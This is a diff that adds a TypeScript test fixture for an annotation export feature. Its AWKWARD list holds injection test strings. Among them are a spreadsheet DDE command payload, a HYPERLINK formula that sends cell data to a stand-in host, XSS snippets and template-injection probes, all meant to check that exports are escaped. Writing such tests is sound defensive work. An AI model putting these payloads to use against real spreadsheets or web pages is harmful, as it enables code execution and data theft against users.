@@ -1,0 +1,126 @@
+import type { Annotation, Note } from "../../annotation/annotation";
+import type { ExportedDocument } from "../exported";
+
+/** Cells and fields that programs trip over when they open an export (reliability, P14). */
+export const AWKWARD: readonly string[] = [
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "@SUM(1)",
+  "\t=1",
+  "\r=1",
+  "\n=1",
+  " =1",
+  "\u00a0=1",
+  "＝1+1",
+  "safe\n=cmd|' /C calc'!A1",
+  'safe\u2028=HYPERLINK("http://evil.invalid/?"&A1,"x")',
+  'a","b',
+  ";=1",
+  "\ufeff=1",
+  "'=1",
+  "''=1",
+  "'",
+  "'\t",
+  "]]><evil/>",
+  "--><evil/>",
+  "&lt;&amp;",
+  "\u000b\ufffe",
+  "</script><script>alert(1)</script>",
+  '" onmouseover="alert(1)',
+  "</style><img src=x onerror=alert(1)>",
+  "---\ntitle: x\n---",
+  "{{7*7}}",
+  "${7*7}",
+  '{"@context":"http://127.0.0.1:9/ctx","@id":"javascript:alert(1)"}',
+  "👩🏽‍🚒 bridge 🌉",
+  "أعلن الوزير أنّ الضرائب انخفضت",
+  "שלום\u202eabc",
+  "line\u0085line\u2029line",
+];
+
+const ID = (n: number) => `01920000-0000-7000-8000-${String(n).padStart(12, "0")}`;
+
+export const ANA = { id: ID(1), name: "Ana" };
+
+export function document(words = "Harbour traffic"): ExportedDocument {
+  const revision = { number: 1, sha256: "ab".repeat(32), createdAt: "2024-03-04T09:00:00.000Z" };
+  return {
+    id: ID(2),
+    title: words,
+    author: words,
+    speaker: "",
+    publisher: "",
+    date: "2024-03",
+    url: "https://harbour.test/speech",
+    language: "en",
+    rights: "",
+    revision,
+    revisions: [revision],
+  };
+}
+
+/** A claim whose every free field says `words`. */
+export function annotation(words: string, rest: Partial<Annotation> = {}): Annotation {
+  return {
+    id: ID(3),
+    projectId: ID(4),
+    documentId: ID(2),
+    revision: 1,
+    kind: "claim",
+    target: [{ start: 4, end: 12, exact: words, prefix: words, suffix: words }],
+    tags: ["statistical", words],
+    body: words,
+    visibility: "project",
+    claim: { id: ID(5), statement: words, type: "factual", checkworthy: true },
+    quotation: null,
+    rhetoric: null,
+    confidence: 3,
+    references: [
+      {
+        id: ID(6),
+        annotationId: ID(3),
+        relation: "refutes",
+        locator: words,
+        quote: words,
+        source: { id: ID(7), url: words, citation: words, csl: { "@id": words, title: words } },
+        createdBy: ANA,
+        createdAt: "2024-03-04T10:00:00.000Z",
+      },
+    ],
+    reviews: [
+      {
+        annotationId: ID(3),
+        verdict: "disagree",
+        comment: words,
+        by: { id: ID(8), name: words },
+        updatedAt: "2024-03-05T10:00:00.000Z",
+      },
+    ],
+    noteCount: 1,
+    status: "disputed",
+    anchor: "exact",
+    orphan: false,
+    createdBy: { id: null, name: words },
+    createdAt: "2024-03-04T09:30:00.000Z",
+    updatedAt: "2024-03-04T09:31:00.000Z",
+    version: 1,
+    change: 1,
+    ...rest,
+  };
+}
+
+export function note(words: string, rest: Partial<Note> = {}): Note {
+  return {
+    id: ID(9),
+    annotationId: ID(3),
+    replyTo: null,
+    body: words,
+    createdBy: ANA,
+    createdAt: "2024-03-04T11:00:00.000Z",
+    updatedAt: "2024-03-04T11:00:00.000Z",
+    deletedAt: null,
+    version: 1,
+    ...rest,
+  };
+}
